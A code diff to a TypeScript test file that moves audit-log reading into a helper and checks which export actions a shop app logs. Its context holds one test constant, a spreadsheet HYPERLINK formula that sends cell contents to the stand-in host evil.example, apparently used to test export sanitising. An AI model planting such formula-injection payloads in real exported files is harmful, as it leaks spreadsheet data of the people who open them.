@@ -1,11 +1,10 @@
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
 import { DEFAULT_SETTINGS } from "../../server/store/default-settings";
-import { auditResponse } from "../../src/contract/messages/audit";
 import { newTestClaim } from "../builders/claims";
 import { deedBy } from "../builders/members";
 import { addTestCoupon, newTestId, openShop, pushed, redemption, reversal } from "../store/acceptance-shop";
 import { everyStore } from "../store/every-store";
-import { type MemberBench, memberAt, openBench } from "./member-bench";
+import { logOf, type MemberBench, memberAt, openBench } from "./member-bench";
 
 const SPAN = "?from=2026-11-21&to=2026-11-22";
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1)';
@@ -105,7 +104,7 @@ describe.each(await everyStore())("on $kind", ({ open }) => {
     vera = owner;
     for (const name of ["couponsFile", "codesFile"] as const) await fileOf(name);
     await fileOf("redemptionsFile", SPAN);
-    const { entries } = auditResponse.parse(await (await owner.browser.call("auditLog")).json());
+    const entries = await logOf(owner.browser);
     const saved = entries.filter(({ act }) => act.endsWith("-exported")).toSorted((a, b) => (a.act < b.act ? -1 : 1));
     expect(saved).toMatchObject([
       { act: "codes-exported", subject: "LIST", by: { id: owner.id } },
